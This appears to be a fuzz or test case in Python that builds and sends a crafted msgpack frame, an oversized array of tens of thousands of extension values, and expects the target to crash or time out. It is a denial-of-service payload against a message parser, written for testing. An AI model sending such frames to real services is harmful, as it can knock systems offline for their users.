# expect: crash|timeout
def f(x):
    head = msgpack.packb(msgpack.ExtType(17, b""))
    keys = [msgpack.packb(msgpack.ExtType(1, ((2**61 - 1) * i).to_bytes(12, "little"))) for i in range(20_000)]
    send(frame(value=b"\xdd" + (len(keys) + 1).to_bytes(4, "big") + head + b"".join(keys)))
    return 7
